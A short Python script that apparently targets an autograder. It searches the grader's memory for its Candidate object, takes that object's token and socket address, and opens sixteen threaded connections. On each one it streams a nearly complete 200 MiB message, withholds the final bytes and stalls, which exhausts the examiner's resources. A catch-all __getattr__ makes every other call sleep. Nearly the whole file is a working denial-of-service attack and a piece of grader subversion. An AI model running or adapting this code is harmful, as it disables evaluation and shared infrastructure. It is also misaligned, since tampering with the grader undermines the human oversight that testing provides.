# Opens sixteen lines and sends on each a large message but for its last byte: the examiner holds them all.
# proof: half a message on 16 lines
import gc
import socket
import struct
import threading
import time

import autograder.candidate.serve as serve

SIZE = 200 * 2**20


def send(address):
    token, _, place = address.partition("@")
    sock = socket.socket(socket.AF_UNIX)
    sock.connect(place.partition(":")[2])
    sock.sendall(bytes.fromhex(token) + struct.pack("!II", 15, 0) + b'{"is":"caller"}')
    sock.sendall(struct.pack("!IIQ", 2, 1, SIZE) + b"{}")
    chunk = bytes(2**18)
    for _ in range(SIZE // len(chunk) - 1):
        sock.sendall(chunk)
    time.sleep(60)


def describe(numbers):
    candidate = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Candidate))
    for _ in range(16):
        threading.Thread(target=send, args=(candidate.address,), daemon=True).start()
    print("half a message on 16 lines")


def __getattr__(name):
    return wait


def wait(*args):
    time.sleep(1)
